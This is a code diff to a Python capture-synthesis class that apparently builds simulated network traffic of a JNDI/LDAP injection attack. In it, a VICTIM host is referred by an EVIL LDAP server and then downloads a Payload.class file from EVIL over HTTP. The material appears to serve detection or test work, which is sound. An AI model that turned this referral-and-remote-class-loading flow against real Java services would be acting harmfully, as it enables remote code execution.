@@ -58,6 +58,15 @@ class Tale(w.Capture):
     def wait(self, seconds):
         self.when += int(seconds * SECOND)
 
+    def put(self, sender, proto, payload):
+        src, dst = self.ends(sender)
+        if ":" not in src:
+            super().put(sender, proto, payload)
+            return
+        frame = bytes(12) + b"\x86\xdd" + wire.ipv6(src, dst, proto, payload)
+        self.frames.append((self.when, frame, len(frame)))
+        self.when += w.STEP
+
     def between(self, client, server):
         self.client, self.server = client, server
         return self
@@ -75,6 +84,13 @@ class Tale(w.Capture):
 
     # --- whoever calls ---
 
+    def referred(self, url, client=VICTIM, server=EVIL, port=1389):
+        """The JDK asks for an entry, and is sent to another server."""
+        answer = ber(0x30, ber(2, b"\2"), ber(0x73, text(url)))
+        self.between(client, server).tcp(port, [("c", jdk_bind()), ("s", done(1, 0x61)), ("c", jdk_search("a")),
+                                                ("s", answer + done(2, 0x65))])
+        self.wait(0.1)
+
     def search(self, base="a", client=VICTIM, server=EVIL, port=1389, codebase=None):
         """The JDK asks for an entry, and gets one only if there is a codebase to name."""
         answer = reference(base, codebase) if codebase else b""
@@ -82,10 +98,12 @@ class Tale(w.Capture):
                                                 ("s", answer + done(2, 0x65))])
         self.wait(0.1)
 
-    def fetch(self, client=VICTIM, server=EVIL, port=8888, agent="Java/17.0.15", path="/Payload.class", words=(), body=None):
+    def fetch(self, client=VICTIM, server=EVIL, port=8888, agent="Java/17.0.15", path="/Payload.class", words=(), body=None, host=None):
         body = body or java_class("Payload", words)
         head = "HTTP/1.0 200 OK\r\nContent-Type: application/java-vm\r\nContent-Length: %d\r\n\r\n" % len(body)
-        request = "GET %s HTTP/1.1\r\nUser-Agent: %s\r\nHost: %s:%d\r\nAccept: */*\r\n\r\n" % (path, agent, server, port)
+        host = host or "%s:%d" % ("[%s]" % server if ":" in server else server, port)
+        path = path.replace("%s", host)
+        request = "GET %s HTTP/1.1\r\nUser-Agent: %s\r\nHost: %s\r\nAccept: */*\r\n\r\n" % (path, agent, host)
         self.between(client, server).tcp(port, [("c", request.encode()), ("s", head.encode() + body)])
         self.wait(0.1)
 
